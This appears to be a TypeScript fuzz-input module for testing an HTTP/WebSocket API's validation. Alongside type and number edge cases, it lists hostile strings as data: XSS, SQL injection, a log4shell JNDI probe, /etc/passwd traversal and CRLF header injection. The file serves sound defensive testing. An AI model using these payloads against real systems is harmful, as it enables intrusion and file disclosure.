/**
 * The hostile values the HTTP and WebSocket fuzzers draw from. Each list targets one class of
 * validator mistake: types, number parsing, text handling, percent-decoding, prototype keys.
 */

/** Values of the wrong JSON type for any field. */
export const WRONG_TYPES: readonly unknown[] = [
  123,
  -1,
  0,
  1.5,
  true,
  false,
  [],
  {},
  ['AAPL'],
  { value: 1 },
  '',
  ' ',
  'null',
];

/** Strings that trip number parsing: NaN, infinities, overflow, hex, separators, padding. */
export const NUMBER_LIKE: readonly string[] = [
  '-1',
  '0',
  '-0',
  'NaN',
  'Infinity',
  '-Infinity',
  '1e309',
  '1e-400',
  '0x10',
  '1_000',
  '1,5',
  '.5',
  '1.',
  '+1',
  ' 1',
  '1\n',
  '9'.repeat(400),
  '0.0000000000000000000000001',
];

/** Control characters, bidi overrides, lone surrogates, injections and traversal as text. */
export const NASTY_TEXT: readonly string[] = [
  '\u0000',
  'AAPL\u0000',
  '\u0007\u001b[31mred',
  '\u202eLPAA',
  '\ud800',
  '\udfff\ud800',
  '\ufeffAAPL',
  '😀'.repeat(40),
  'ＡＡＰＬ',
  '<script>alert(1)</script>',
  "' OR 1=1 --",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell probe is meant literally.
  '${jndi:ldap://x/a}',
  '../../etc/passwd',
  '\r\nSet-Cookie: x=1',
];

/** Path segments as sent (already percent-encoded or deliberately not). */
export const PATH_SEGMENTS: readonly string[] = [
  '..',
  '../..',
  '../../health',
  '..%2F..%2Fetc%2Fpasswd',
  '%2e%2e%2f%2e%2e%2f',
  '%00',
  'AAPL%00',
  '%',
  '%zz',
  '%E2%80%AE',
  '%F0%9F%98%80',
  '%ff%fe',
  '%C0%AE%C0%AE',
  '%0d%0aX-Injected:%201',
  '%20',
  '.',
  ';',
  'AAPL;x=1',
  'A'.repeat(65),
  'A'.repeat(101),
  'A'.repeat(8_000),
  // Past node's 16 kB header limit: refused by the HTTP parser, before fastify routes anything.
  'A'.repeat(100_000),
];

/** Query values as sent. */
export const QUERY_VALUES: readonly string[] = [
  'abc',
  '',
  '-1',
  '0',
  '1.5',
  'NaN',
  'Infinity',
  '1e309',
  '99999999999999999999',
  '%zz',
  '%00',
  '%E2%80%AE',
  'true',
  'A'.repeat(8_000),
];

/** JSON text that is not valid JSON. */
export const BROKEN_JSON: readonly string[] = [
  '{',
  '{"symbol":',
  '[1,2',
  "{'symbol':'AAPL'}",
  '{"symbol":"AAPL"}}',
  '{"symbol":"AAPL",}',
  'nul',
  'NaN',
  '\u0000',
  '{"a":"\\x41"}',
  '{"a":"\\ud800"',
  '\ufeff{}',
];

/** Content types other than plain JSON, sent over a valid JSON body (null: no header at all). */
export const CONTENT_TYPES: readonly (string | null)[] = [
  'text/plain',
  'application/xml',
  'multipart/form-data; boundary=x',
  'application/x-www-form-urlencoded',
  'application/json; charset=utf-16',
  'application/jsonx',
  'application/octet-stream',
  '*/*',
  null,
];

/** A string of `bytes` ASCII characters (100 kB ones go in fields, bigger ones past the body limit). */
export const huge = (bytes: number): string => 'A'.repeat(bytes);

/** `depth` nested arrays (or objects) as JSON text, built as text: no recursion on our side. */
export function nested(depth: number, kind: 'array' | 'object'): string {
  return kind === 'array'
    ? '['.repeat(depth) + ']'.repeat(depth)
    : `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
}
